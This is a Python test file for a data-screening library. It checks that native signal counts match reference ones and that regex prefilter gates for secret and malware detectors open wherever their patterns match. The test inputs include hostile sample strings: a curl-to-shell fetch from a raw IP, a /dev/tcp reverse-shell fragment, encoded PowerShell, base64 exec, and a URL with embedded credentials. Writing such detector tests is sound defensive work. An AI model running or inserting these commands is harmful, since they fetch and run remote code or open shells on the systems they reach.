"""Signals and gates: the native counts beside the slow ones, and no gate that stays shut where its pattern matches."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from highrise.core.native import rust
from highrise.data import licenses, malware, secrets
from highrise.data.gates import Gates, gate_of
from tests.data.conftest import module
from tests.data.test_screening import PLANTED
from tests.reference import signals as slow

PIECES = ["    ", " " * 24 + "x", "\t" * 6, "\n", "# a", "#!", "-- b", "--b", "* c", "*/", "def f", "async  def _g",
    "class A", "x1_", "_", "9a", "é", "“name”", "a" * 65,
    '"""', "'''", 'r"""', "a" * 63, "+/" * 40, "\v", "\f", "\r", "\x1c", " ", ";", "%", "//", "\U0001f600"]  # fmt: skip


@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=40).map("".join))
def test_signals_equal_the_slow_ones(text: str) -> None:
    found = rust.data.signals_of(text)
    expected = slow.signals(text)
    assert {name: getattr(found, name) for name in expected} == expected
    assert rust.data.shape_of(text) == slow.shape(text)


def test_signals_of_a_module() -> None:
    """A golden value: what a module of the tests is like does not change by itself."""
    found = rust.data.signals_of(module(3))
    counted = {name: getattr(found, name) for name in slow.signals("")}
    assert counted == {
        "filled": 32, "solid": 944, "unique": 32, "letters": 403, "deep": 0, "names": 70, "name_letters": 631,
        "commented": 0, "definitions": 1, "documented": 45,
    }  # fmt: skip


ALL = [
    *(pattern for _, _, pattern in secrets.RULES),
    *(pattern for _, pattern in malware._SIGNS),
    malware._OBFUSCATED_NAME,
]
MATCHING = [*PLANTED, "os.system('curl http://1.2.3.4/x | sh')", "exec(base64.b64decode('eA=='))", 
    "sh -i >& /dev/tcp/1", "https://jane:hunter22@db.acme.net/x", "powershell -enc " + "QQ" * 30,
    "_0x12ab", "eval(atob('x'))"]  # fmt: skip


@given(st.lists(st.one_of(st.sampled_from(MATCHING), st.text(max_size=8)), max_size=6).map("\n".join))
def test_no_gate_is_shut_where_its_pattern_matches(text: str) -> None:
    matching = {number for number, pattern in enumerate(ALL) if pattern.search(text)}
    assert matching <= set(GATES.open(text))


GATES = Gates(ALL)


def test_the_gate_of_assignments_is_open_where_they_are() -> None:
    for line in PLANTED:
        if secrets._ASSIGNMENT.search(line):
            assert len(secrets.RULES) in secrets._GATES.open(line), line
    assert not secrets._GATES.open("token = tokenizer.next()\n" * 100)


def test_a_gate_has_no_bounds_and_looks_nowhere() -> None:
    assert gate_of(re.compile(r"(?<![a-z])\bx{2,5}(?P<secret>[\w-]{3})(?!\w)", re.I)) == r"(?i)x{2,}(?:[\w-]{3})"
    with pytest.raises(ValueError, match="cannot be used as a gate"):
        Gates([r"(a)\1"]).open("aa")


def test_a_head_without_a_hint_has_no_license() -> None:
    assert licenses.file_license("import os\n") == licenses.UNKNOWN
    assert licenses.file_license("# SPDX-License-Identifier: MIT\n") == "MIT"
